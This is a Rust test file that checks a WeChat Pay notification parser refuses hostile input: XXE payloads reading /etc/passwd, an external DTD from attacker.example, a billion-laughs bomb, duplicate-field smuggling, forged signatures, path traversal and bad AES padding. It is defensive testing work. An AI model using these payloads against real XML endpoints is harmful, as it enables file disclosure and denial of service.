//! Hostile input to the notification endpoints: XXE, billion laughs, oversize, deep nesting,
//! invalid UTF-8, missing/forged/empty/odd-length signatures, and refund `req_info` that is
//! not base64, badly padded or encrypted with another key. Every one must be refused.

#![allow(clippy::unwrap_used, clippy::expect_used)] // tests may unwrap

use base64::Engine;
use wxshop::domain::{Fen, OpenId, OutRefundNo, OutTradeNo};
use wxshop::pay::refund_notify::{build_refund_notification, RefundNotificationSpec};
use wxshop::pay::xml::{self, XmlError, MAX_BODY};
use wxshop::pay::*;

const KEY: &str = "192006250b4c09247ec02edce69f6a2d";

fn genuine_fields() -> Fields {
    payment_notification_fields(&PaymentNotificationSpec {
        appid: "wx2421b1c4370ec43b".into(),
        mch_id: "10000100".into(),
        sub_appid: None,
        sub_mch_id: None,
        openid: OpenId::parse("oUpF8uMEb4qRXf22hE3X68TekukE").unwrap(),
        out_trade_no: OutTradeNo::parse("1409811653").unwrap(),
        transaction_id: "1004400740201409030005092168".into(),
        total_fee: Fen::new(1).unwrap(),
        time_end_ms: 1_409_721_340_000,
        attach: None,
        sign_type: SignType::Md5,
        omit_sign_type: false,
    })
}

fn parse(body: &[u8]) -> Result<PaymentNotification<'_>, NotifyError> {
    parse_payment_notification(body, KEY)
}

fn xml_err(body: &[u8]) -> XmlError {
    match parse(body) {
        Err(NotifyError::Xml(e)) => e,
        other => panic!("expected an XML refusal, got {other:?}"),
    }
}

#[test]
fn xxe_and_billion_laughs_are_refused() {
    let xxe = br#"<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<xml><return_code>SUCCESS</return_code><attach>&xxe;</attach></xml>"#;
    assert_eq!(xml_err(xxe), XmlError::Doctype);

    let oob = br#"<?xml version="1.0"?><!DOCTYPE data SYSTEM "http://attacker.example/evil.dtd"><xml><a>1</a></xml>"#;
    assert_eq!(xml_err(oob), XmlError::Doctype);

    let laughs = br#"<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<xml><return_code>&lol9;</return_code></xml>"#;
    assert_eq!(xml_err(laughs), XmlError::Doctype);

    // An undeclared entity without any DOCTYPE is malformed, not expanded.
    assert!(matches!(
        xml_err(b"<xml><return_code>&lol9;</return_code></xml>"),
        XmlError::Malformed(_)
    ));
    // The same for the refund endpoint.
    assert!(matches!(
        parse_refund_notification(laughs, KEY),
        Err(NotifyError::Xml(XmlError::Doctype))
    ));
}

#[test]
fn oversize_deep_and_invalid_utf8_are_refused() {
    // A genuine, correctly signed notification padded past the cap is still refused.
    let mut f = genuine_fields();
    f.insert("attach".into(), "x".repeat(MAX_BODY));
    let big = signed_xml(f, KEY, SignType::Md5);
    assert!(matches!(xml_err(big.as_bytes()), XmlError::TooLarge(_)));

    let deep = format!("<xml>{}{}</xml>", "<a>".repeat(1_000), "</a>".repeat(1_000));
    assert_eq!(xml_err(deep.as_bytes()), XmlError::TooDeep);
    assert_eq!(
        xml_err(b"<xml><return_code><b>SUCCESS</b></return_code></xml>"),
        XmlError::TooDeep
    );

    assert_eq!(
        xml_err(b"<xml><return_code>SUCCESS</return_code><attach>\xc3\x28</attach></xml>"),
        XmlError::NotUtf8
    );
    assert_eq!(xml_err(b""), XmlError::Empty);
    assert!(matches!(
        xml_err(b"not xml at all"),
        XmlError::Malformed(_) | XmlError::WrongRoot { .. }
    ));
    assert!(matches!(
        xml_err(b"<xml><return_code>SUCCESS"),
        XmlError::Malformed(_) | XmlError::WrongRoot { .. }
    ));
    assert_eq!(
        xml_err(b"<xml><a>1</a></xml><xml><a>2</a></xml>"),
        XmlError::WrongRoot { expected: "xml" }
    );
    // A field sent twice could smuggle a second value past the signature.
    let mut f = genuine_fields();
    sign_in_place(&mut f, KEY, SignType::Md5);
    let body = xml::encode(&f).replace("</xml>", "<total_fee>100000</total_fee></xml>");
    assert_eq!(
        xml_err(body.as_bytes()),
        XmlError::Duplicate("total_fee".into())
    );
}

#[test]
fn signatures_missing_forged_empty_or_odd_are_refused() {
    let f = genuine_fields();
    let sign_err = |f: &Fields| match parse(xml::encode(f).as_bytes()) {
        Err(NotifyError::Sign(e)) => e,
        other => panic!("expected a signature refusal, got {other:?}"),
    };
    // Missing.
    assert_eq!(sign_err(&f), VerifyError::MissingSign);
    // Empty.
    let mut t = f.clone();
    t.insert("sign".into(), String::new());
    assert_eq!(sign_err(&t), VerifyError::EmptySign);
    // Forged with another key.
    let mut t = f.clone();
    sign_in_place(&mut t, "another-key-another-key-another-k", SignType::Md5);
    assert_eq!(sign_err(&t), VerifyError::Mismatch);
    // Genuine, then the amount changed.
    let mut t = f.clone();
    sign_in_place(&mut t, KEY, SignType::Md5);
    t.insert("total_fee".into(), "100000".into());
    assert_eq!(sign_err(&t), VerifyError::Mismatch);
    // Genuine, then an extra field added.
    let mut t = f.clone();
    sign_in_place(&mut t, KEY, SignType::Md5);
    t.insert("coupon_fee".into(), "1".into());
    assert_eq!(sign_err(&t), VerifyError::Mismatch);
    // Wrong lengths.
    for bad in ["ABC", &"A".repeat(31), &"A".repeat(40), &"A".repeat(65)] {
        let mut t = f.clone();
        t.insert("sign".into(), bad.to_string());
        assert_eq!(sign_err(&t), VerifyError::BadLength(bad.len()));
    }
    // sign_type that disagrees with the signature's length, or is unknown.
    let mut t = f.clone();
    sign_in_place(&mut t, KEY, SignType::Md5);
    t.insert("sign_type".into(), "HMAC-SHA256".into());
    assert_eq!(sign_err(&t), VerifyError::BadLength(32));
    let mut t = f.clone();
    t.insert("sign_type".into(), "SHA1".into());
    sign_in_place(&mut t, KEY, SignType::Md5);
    assert!(matches!(sign_err(&t), VerifyError::UnknownSignType(_)));
    // Lowercase hex of the genuine signature is still genuine.
    let mut t = f.clone();
    sign_in_place(&mut t, KEY, SignType::Md5);
    let lower = t["sign"].to_ascii_lowercase();
    t.insert("sign".into(), lower);
    assert!(parse(xml::encode(&t).as_bytes()).is_ok());
}

#[test]
fn return_fail_and_missing_fields() {
    assert!(matches!(
        parse(b"<xml><return_code>FAIL</return_code><return_msg>x</return_msg></xml>"),
        Err(NotifyError::ReturnFail { .. })
    ));
    // No return_code at all (WxJava#1890's bypass) is refused too.
    let mut f = genuine_fields();
    f.remove("return_code");
    sign_in_place(&mut f, KEY, SignType::Md5);
    assert!(matches!(
        parse(xml::encode(&f).as_bytes()),
        Err(NotifyError::ReturnFail { .. })
    ));
    // Signed but without an amount, or with a bad one.
    for (k, v) in [
        ("total_fee", ""),
        ("total_fee", "-1"),
        ("total_fee", "1.00"),
    ] {
        let mut f = genuine_fields();
        f.insert(k.into(), v.into());
        sign_in_place(&mut f, KEY, SignType::Md5);
        assert!(
            matches!(
                parse(xml::encode(&f).as_bytes()),
                Err(NotifyError::Field(_))
            ),
            "{k}={v}"
        );
    }
    let mut f = genuine_fields();
    f.insert("out_trade_no".into(), "../../etc".into());
    sign_in_place(&mut f, KEY, SignType::Md5);
    assert!(matches!(
        parse(xml::encode(&f).as_bytes()),
        Err(NotifyError::Id(_))
    ));
}

fn refund_body(req_info: &str) -> String {
    let mut f = Fields::new();
    f.insert("return_code".into(), "SUCCESS".into());
    f.insert("appid".into(), "wx1".into());
    f.insert("mch_id".into(), "10000100".into());
    f.insert("req_info".into(), req_info.into());
    xml::encode(&f)
}

fn refund_spec() -> RefundNotificationSpec {
    RefundNotificationSpec {
        appid: "wx1".into(),
        mch_id: "10000100".into(),
        sub_appid: None,
        sub_mch_id: None,
        out_trade_no: OutTradeNo::parse("1409811653").unwrap(),
        out_refund_no: OutRefundNo::parse("RF1").unwrap(),
        transaction_id: "42".into(),
        refund_id: "50".into(),
        total_fee: Fen::new(10).unwrap(),
        refund_fee: Fen::new(10).unwrap(),
        refund_status: RefundStatus::Success,
        success_time_ms: Some(1_409_721_340_000),
    }
}

/// AES-256-ECB with the WeChat key and *no* padding added: the caller controls the padding.
fn raw_encrypt(plain: &[u8]) -> String {
    use aes::cipher::{BlockEncrypt, KeyInit};
    use md5::{Digest, Md5};
    assert_eq!(plain.len() % 16, 0);
    let key = hex::encode(Md5::digest(KEY.as_bytes()));
    let cipher = aes::Aes256::new_from_slice(key.as_bytes()).unwrap();
    let mut out = plain.to_vec();
    for block in out.chunks_mut(16) {
        cipher.encrypt_block(aes::Block::from_mut_slice(block));
    }
    base64::engine::general_purpose::STANDARD.encode(out)
}

#[test]
fn refund_req_info_hostile_cases() {
    let ok = build_refund_notification(&refund_spec(), KEY);
    assert!(parse_refund_notification(ok.as_bytes(), KEY).is_ok());

    // Wrong key.
    assert!(matches!(
        parse_refund_notification(ok.as_bytes(), "0123456789abcdef0123456789abcdef"),
        Err(NotifyError::Decrypt | NotifyError::InnerXml(_))
    ));
    // Not base64 / empty / not whole blocks.
    for bad in ["%%%not-base64%%%", "QUJD", "QUJDREVGR0hJSktMTU5PUFE="] {
        let r = parse_refund_notification(refund_body(bad).as_bytes(), KEY);
        assert!(
            matches!(r, Err(NotifyError::Base64 | NotifyError::Decrypt)),
            "{bad}: {r:?}"
        );
    }
    assert!(matches!(
        parse_refund_notification(refund_body("").as_bytes(), KEY),
        Err(NotifyError::Field(_))
    ));

    let plain = b"<root><out_trade_no>1409811653</out_trade_no></root>";
    let pad_to = |plain: &[u8], pad: &[u8]| {
        let mut v = plain.to_vec();
        v.extend_from_slice(pad);
        v
    };
    // 52 bytes + 12 bytes of padding = 64.
    assert_eq!(plain.len(), 52);
    // Correct padding decrypts (then fails for missing fields, not for padding): WeChat's,
    // yet unreadable, with the decrypted fields kept for the evidence.
    let good = raw_encrypt(&pad_to(plain, &[12; 12]));
    match parse_refund_notification(refund_body(&good).as_bytes(), KEY) {
        Err(NotifyError::RefundFields { error, fields }) => {
            assert!(matches!(*error, NotifyError::Field(_)), "{error}");
            assert_eq!(
                fields.get("out_trade_no").map(String::as_str),
                Some("1409811653")
            );
        }
        other => panic!("{other:?}"),
    }
    // Inconsistent padding bytes.
    let mut bad = [12u8; 12];
    bad[0] = 11;
    let r = parse_refund_notification(
        refund_body(&raw_encrypt(&pad_to(plain, &bad))).as_bytes(),
        KEY,
    );
    assert_eq!(r.map(|_| ()), Err(NotifyError::Decrypt));
    // Zero padding byte.
    let mut zero = pad_to(plain, &[0u8; 12]);
    zero[63] = 0;
    let r = parse_refund_notification(refund_body(&raw_encrypt(&zero)).as_bytes(), KEY);
    assert_eq!(r.map(|_| ()), Err(NotifyError::Decrypt));
    // wechatpy-style 32-byte padding (pad byte 0x1a = 26 > 16) is refused.
    let plain38 = &plain[..38];
    let r = parse_refund_notification(
        refund_body(&raw_encrypt(&pad_to(plain38, &[26u8; 26]))).as_bytes(),
        KEY,
    );
    assert_eq!(r.map(|_| ()), Err(NotifyError::Decrypt));
    // A DOCTYPE inside the encrypted payload is refused by the inner parser.
    let evil = encrypt_req_info(
        r#"<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><root><out_trade_no>&x;</out_trade_no></root>"#,
        KEY,
    );
    assert_eq!(
        parse_refund_notification(refund_body(&evil).as_bytes(), KEY).map(|_| ()),
        Err(NotifyError::InnerXml(XmlError::Doctype))
    );
    // Wrong inner root.
    let evil = encrypt_req_info("<xml><out_trade_no>1</out_trade_no></xml>", KEY);
    assert!(matches!(
        parse_refund_notification(refund_body(&evil).as_bytes(), KEY),
        Err(NotifyError::InnerXml(XmlError::WrongRoot { .. }))
    ));
    // Outer return_code FAIL.
    assert!(matches!(
        parse_refund_notification(
            b"<xml><return_code>FAIL</return_code><return_msg>x</return_msg></xml>",
            KEY
        ),
        Err(NotifyError::ReturnFail { .. })
    ));
}
